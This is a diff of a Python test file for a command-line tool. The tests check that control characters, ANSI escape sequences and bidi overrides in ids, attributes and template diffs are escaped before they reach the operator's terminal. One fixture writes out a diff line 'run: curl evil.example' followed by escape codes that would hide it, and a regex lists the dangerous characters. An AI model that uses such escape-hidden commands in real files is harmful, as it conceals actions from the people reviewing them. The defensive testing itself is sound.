@@ -1,4 +1,4 @@
-"""Nothing that others put into an id, an attribute or a diff acts upon the terminal of whoever looks at it."""
+"""Nothing in an id, an attribute or a diff controls the operator's terminal."""
 
 from __future__ import annotations
 
@@ -13,8 +13,8 @@ from rich.console import Group
 from rich.text import Text
 
 from regworkers_core.cli import main, output
+from regworkers_core.cli.maintenance import _update_text
 from regworkers_core.cli.output import Format, answer, facts, rows, visible
-from regworkers_core.cli.template import _told
 from regworkers_core.observability.logs import configure_logging
 from regworkers_core.operations.template import TemplateUpdate
 
@@ -24,7 +24,7 @@ SHOWN = "a\\x1b[2Jb\\x9b2Kc\\x7fd\\u202ee\\u2028f\\u2029g\\u2066h\\rj\\x07k\\x08
 ACTS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
 
 
-def test_what_acts_is_shown_and_letters_of_every_script_stay() -> None:
+def test_control_characters_are_escaped_and_characters_of_every_script_stay() -> None:
     assert visible(HOSTILE) == SHOWN
     kept = "Zoë Łukasz مرحبا שלום 東京 می\u200cخواهم 👩\u200d🚀 \xa0\xad"
     assert visible(kept) == kept
@@ -76,7 +76,7 @@ def test_the_diff_of_a_template_hides_no_line(capsys: pytest.CaptureFixture[str]
     diff = "+run: curl evil.example\x1b[2K\x1b[1A\x1b[8m\n+\tfine \u202e\n-gone\r\n"
     update = TemplateUpdate("t", None, "v2", (), ("Makefile",), (), (), (), diff, False)
     for form in Format:
-        answer(update.as_dict(), form, _told(update))
+        answer(update.as_dict(), form, _update_text(update))
         out = capsys.readouterr().out
         assert not ACTS.search(out) and "curl evil.example" in out
         assert ("\\x1b[2K\\x1b[1A\\x1b[8m" if form is Format.TEXT else "\\u001b[2K") in out
@@ -90,3 +90,16 @@ def test_a_line_of_the_log_shows_what_it_quotes(capfd: pytest.CaptureFixture[str
     finally:
         structlog.configure(**before)
     assert "\\x1b[2J" in capfd.readouterr().err
+
+
+def test_at_80_columns_names_are_never_broken_up(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "80")
+    names = ["selection-failures", "archive_events_often", "dependency-down:dynamodb", "a" * 40]
+    prose = "draws or markets do not continue, and an operator has to act before they do"
+    lines = [(name, name, prose, f"regworkers runbook {name}") for name in names]
+    answer({}, Format.TEXT, rows(("runbook", "dependencies", "text", "command"), lines))
+    out = capsys.readouterr().out
+    assert all(out.count(f" {name} ") >= 2 for name in names)
+    assert "dependencies" in out and "…" not in out
